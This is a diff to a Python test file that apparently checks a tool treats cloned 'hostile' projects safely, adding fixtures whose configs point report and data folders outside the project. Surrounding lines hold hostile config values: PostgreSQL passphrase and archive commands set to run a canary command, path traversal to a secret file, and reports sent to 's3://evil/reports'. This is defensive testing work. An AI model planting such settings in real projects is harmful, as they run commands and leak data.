@@ -61,6 +61,7 @@ EVIL = {"evil.py": RUNS}
 SYSTEM = '[systems.x]\nretriever = "bm25"\n'
 CONF = f"ssl = on\nssl_passphrase_command = 'touch {CANARY}'\narchive_command = 'touch {CANARY}'\n"
 SERVER = {"pg/data/PG_VERSION": "18\n", "pg/data/postgresql.conf": CONF, "pg/data/postgresql.auto.conf": CONF}
+DATA, REPORTS = 'data_folder = "../other/data"\n', 'reports_folder = "../other/reports"\n'
 SCORE = ("score", "answers.jsonl", "-m", "faithfulness")
 TABLE = {"answers.jsonl": ANSWERS}
 PROJECTS = {
@@ -134,6 +135,12 @@ PROJECTS = {
     "a metric's prompt elsewhere": Hostile('[metrics.faithfulness.prompt]\nen = "../other/secret.jsonl"\n',
                                            named="reads {other}/secret.jsonl"),
     "reports elsewhere": Hostile(top='reports_folder = "../other/reports"\n', named="writes to {other}/reports"),
+    "reports of others, published": Hostile(top=REPORTS, named="writes to {other}/reports",
+                                            words=("publish", "latest", "--to", "public")),
+    "reports of others, compared": Hostile(top=REPORTS, named="writes to {other}/reports",
+                                           words=("compare", "one", "two")),
+    "questions drafted elsewhere": Hostile(top=DATA, named="data_folder: reads {other}/data",
+                                           words=("draft", "small")),
     "data at an address": Hostile(top='dataset = "{url}/data"\n', named="dataset: reads"),
     "reports to a bucket": Hostile(top='reports = "s3://evil/reports"\n', named="sends every run to s3://evil/reports"),
     "a cluster": Hostile(top='cluster = "tcp://127.0.0.1:9"\n', named="cluster: sends texts"),
@@ -198,7 +205,7 @@ def one_file(path: Path, text: str) -> None:
     path.write_text(text, encoding="utf-8")
 
 
-@pytest.mark.fault("cloned-projects", tried="hostile projects: one question, nothing run, sent or opened", count=45)
+@pytest.mark.fault("cloned-projects", tried="hostile projects: one question, nothing run, sent or opened", count=48)
 @pytest.mark.parametrize("name", PROJECTS)
 def test_nothing_of_it_happens_before_one_answer(
     name: str, stranger: Callable[..., tuple[Path, Path]], server: ChatServer
